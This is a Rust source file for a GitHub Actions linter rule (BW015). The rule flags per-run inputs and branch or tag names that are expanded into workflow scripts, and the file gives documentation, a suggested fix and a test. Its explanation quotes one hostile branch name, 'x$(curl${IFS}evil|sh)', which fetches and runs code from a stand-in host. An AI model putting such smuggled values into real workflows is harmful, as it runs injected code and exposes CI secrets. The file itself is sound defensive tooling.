//! BW015: values chosen per run by someone with write access expanded into run scripts.

use crate::audit::rule::{Check, FileKind, Rule, Sink};
use crate::audit::workflow::injection::injections;
use crate::audit::workflow::taint::Trust;
use crate::audit::workflow::Workflow;
use crate::report::Severity;
use crate::shown;

pub static RULE: Rule = Rule {
    code: "BW015",
    name: "input-in-script",
    kind: FileKind::Workflow,
    severity: Severity::Medium,
    summary: "A `run:` or github-script `script:` expands a value chosen per run (`${{ inputs.tag }}`, `${{ github.ref_name }}`...).",
    fix: "Pass the value through `env:` (`TAG: ${{ inputs.tag }}`) and use `\"$TAG\"` in the script.",
    docs: r#"## What it does
Flags `${{ … }}` expressions in `run:` scripts and in `actions/github-script`'s `script:` whose value is chosen for each run by someone with write access, or by the workflow that calls this one: `workflow_dispatch` and `workflow_call` inputs (`inputs.*`, `github.event.inputs.*`), `repository_dispatch` payloads, branch and tag names (`github.ref`, `github.ref_name`, `github.base_ref`, `pull_request.base.ref`), release names, tags and notes, label and milestone names. Values are followed through `env:`, `$GITHUB_ENV`, step and job outputs and the matrix, as in BW003. Values anyone on GitHub can set are BW003 (high) instead.

## Why is this bad?
The value becomes shell code. A branch named `x$(curl${IFS}evil|sh)` is a valid git ref; a dispatch input is free text. Someone with write access who may not reach the secrets of a protected environment can reach them by dispatching the deploy workflow with an input that runs code; a reusable workflow cannot know whether its caller passes a pull request title as an input. Scripts that quote the value also break on a quote in it.

## Example
```yaml
on:
  workflow_dispatch:
    inputs:
      tag: {required: true}
jobs:
  release:
    steps:
      - run: git tag "${{ inputs.tag }}"
```

## Use instead
```yaml
jobs:
  release:
    steps:
      - env:
          TAG: ${{ inputs.tag }}
        run: git tag "$TAG"
```

## Compared with other linters
zizmor's `template-injection` reports these at high severity, like an outsider's pull request title. berth rates them medium: only someone who can already push, or a workflow of the same repository, sets them, so they are a privilege boundary inside the team (protected environments, reusable workflows) rather than an outsider's way in. Repository settings (`github.event.repository.*`, `vars.*`) are configuration, not per-run input, and are not reported; neither are usernames (`github.actor`, `github.event.pusher.name`), which GitHub limits to letters, digits and `-`.

## References
- GitHub docs: security hardening, "Understanding the risk of script injections"
- git-check-ref-format(1): what a branch name may contain
- zizmor `template-injection`
"#,
    opt_in: false,
    check: Check::Workflow(check),
};

fn check(workflow: &Workflow, sink: &mut Sink) {
    for injection in injections(workflow).into_iter().filter(|i| i.trust() == Trust::Maintainer) {
        sink.scoped(
            injection.line,
            injection.column,
            &injection.job,
            format!(
                "{} is pasted into {}: its value comes from {}, chosen for each run",
                shown::value(&format!("${{{{ {} }}}}", injection.expression)),
                injection.into,
                shown::escape(&shown::clip(&injection.origins(), 4 * shown::MAX_SHOWN))
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::testing::lines;

    #[test]
    fn flags_inputs_and_ref_names_but_not_outsiders_data() {
        let text = "on:\n  workflow_dispatch:\n    inputs:\n      tag: {}\njobs:\n  a:\n    steps:\n      - run: git tag ${{ inputs.tag }}\n      - run: echo ${{ github.ref_name }} ${{ github.sha }}\n      - run: echo ${{ github.event.issue.title }}\n      - env:\n          TAG: ${{ inputs.tag }}\n        run: git tag \"$TAG\"\n";
        assert_eq!(lines(&RULE, text), [8, 9]);
    }
}
